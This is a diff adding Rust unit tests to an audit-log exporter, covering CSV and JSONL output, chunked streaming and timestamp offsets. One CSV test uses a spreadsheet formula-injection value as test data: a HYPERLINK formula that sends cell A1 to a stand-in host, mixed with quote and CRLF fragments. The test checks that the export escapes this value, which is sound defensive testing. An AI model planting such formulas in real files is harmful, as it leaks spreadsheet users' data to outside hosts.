@@ -281,3 +281,165 @@ impl Exporter {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::access::Viewer;
+    use crate::append::append_batch;
+    use crate::model::{Actor, ActorKind, Context, EventInput, Outcome, Target};
+    use crate::store::MemoryStore;
+    use chrono::{DateTime, Utc};
+
+    struct Fixed;
+    impl Clock for Fixed {
+        fn now(&mut self) -> DateTime<Utc> {
+            DateTime::from_timestamp(1_795_000_000, 0).expect("time")
+        }
+    }
+
+    fn viewer() -> Viewer {
+        Viewer {
+            actor: Actor {
+                id: "op".into(),
+                name: None,
+                email: None,
+                kind: ActorKind::User,
+            },
+            roles: vec!["admin".into()],
+            context: Context::default(),
+        }
+    }
+
+    fn log(n: usize, name: &str) -> MemoryStore {
+        let mut s = MemoryStore::default();
+        let inputs = (0..n)
+            .map(|i| EventInput {
+                tenant: "acme".into(),
+                action: "user.updated".into(),
+                actor: Actor {
+                    id: format!("u_{i}"),
+                    name: Some(name.into()),
+                    email: None,
+                    kind: ActorKind::User,
+                },
+                targets: vec![Target {
+                    kind: "user".into(),
+                    id: "u_7".into(),
+                    name: Some(name.into()),
+                }],
+                outcome: Outcome::Success,
+                failure_reason: None,
+                context: Context::default(),
+                occurred_at: None,
+                before: Some(r#"{"a":1,"b":"x"}"#.into()),
+                after: Some(serde_json::json!({"a": -2, "b": name}).to_string()),
+                metadata: None,
+            })
+            .collect();
+        append_batch(&mut s, &mut Fixed, inputs).unwrap();
+        s
+    }
+
+    fn request(format: Format) -> ExportRequest {
+        ExportRequest {
+            filter: Filter::tenant("acme"),
+            order: Order::OldestFirst,
+            viewer: viewer(),
+            format,
+            columns: vec![],
+            rows: RowMode::Events,
+            byte_order_mark: false,
+            utc_offset: None,
+        }
+    }
+
+    fn run(s: &mut MemoryStore, r: &ExportRequest) -> (Vec<u8>, usize, Progress) {
+        let mut x = start(s, &mut Fixed, r).unwrap();
+        let (mut out, mut chunks) = (Vec::new(), 0);
+        while let Some(c) = x.next_chunk(s).unwrap() {
+            out.extend(c);
+            chunks += 1;
+        }
+        (out, chunks, x.progress())
+    }
+
+    #[test]
+    fn csv_round_trips_and_streams_in_chunks() {
+        let name = "=HYPERLINK(\"http://x?\"&A1,\"x\")\r\na\",=1+2;b";
+        let mut s = log(3000, name);
+        let mut r = request(Format::Csv);
+        r.rows = RowMode::Changes;
+        r.byte_order_mark = true;
+        let (out, chunks, p) = run(&mut s, &r);
+        assert!(chunks > 1, "a big export comes in several chunks");
+        assert!(out.starts_with(BOM));
+        assert!(p.done);
+        assert_eq!((p.events, p.rows), (3000, 6000));
+        assert_eq!(p.bytes, out.len() as u64);
+        let mut reader = csv::Reader::from_reader(&out[BOM.len()..]);
+        let header = reader.headers().unwrap().clone();
+        assert_eq!(header.get(6), Some("field"));
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert_eq!(rows.len(), 6000);
+        let col = |n: &str| header.iter().position(|h| h == n).unwrap();
+        assert_eq!(csv_export::restore(&rows[1][col("actor")]), name);
+        assert!(rows[1][col("actor")].starts_with("'="));
+        assert_eq!(&rows[0][col("new_value")], "-2", "numbers stay numbers");
+        assert_eq!(csv_export::restore(&rows[1][col("new_value")]), name);
+        assert_eq!(&rows[1][col("target")], &format!("user: {name}"));
+        // The snapshot: the export's own event (seq 3001) is not in it.
+        let last = &rows[5999];
+        assert_eq!(&last[col("action")], "user.updated");
+        let log_rows = s
+            .scan(&crate::store::ScanRequest {
+                tenant: "acme".into(),
+                after_seq: Some(3000),
+                limit: 10,
+                ..Default::default()
+            })
+            .unwrap();
+        assert_eq!(log_rows.len(), 1);
+        assert!(log_rows[0].body.contains("audit_log.exported"));
+    }
+
+    #[test]
+    fn jsonl_is_the_stored_events() {
+        let mut s = log(5, "Ana");
+        let mut r = request(Format::Jsonl);
+        r.order = Order::NewestFirst;
+        let (out, _, p) = run(&mut s, &r);
+        let lines: Vec<&str> = std::str::from_utf8(&out).unwrap().lines().collect();
+        assert_eq!(lines.len(), 5);
+        assert_eq!(p.events, 5);
+        let e: crate::model::Event = serde_json::from_str(lines[0]).unwrap();
+        assert_eq!(e.seq, 5);
+        assert_eq!(codec::to_json(&e).unwrap(), lines[0]);
+        r.columns = vec!["seq".into()];
+        let e = start(&mut s, &mut Fixed, &r).err().unwrap();
+        assert!(e.to_string().starts_with("columns: only for CSV"), "{e}");
+    }
+
+    #[test]
+    fn times_at_an_offset_and_chosen_columns() {
+        let mut s = log(1, "Ana");
+        let mut r = request(Format::Csv);
+        r.columns = vec!["seq".into(), "timestamp".into(), "actor".into()];
+        r.utc_offset = Some("+02:00".into());
+        let (out, _, _) = run(&mut s, &r);
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(
+            text,
+            "\"seq\",\"timestamp\",\"actor\"\r\n\"1\",\"2026-11-18T13:06:40+02:00\",\"Ana\"\r\n"
+        );
+    }
+
+    #[test]
+    fn an_empty_export_has_its_header() {
+        let mut s = MemoryStore::default();
+        let (out, chunks, p) = run(&mut s, &request(Format::Csv));
+        assert_eq!(chunks, 1);
+        assert!(p.done && p.events == 0);
+        assert!(String::from_utf8(out).unwrap().starts_with("\"timestamp\",\"actor\""));
+    }
+}
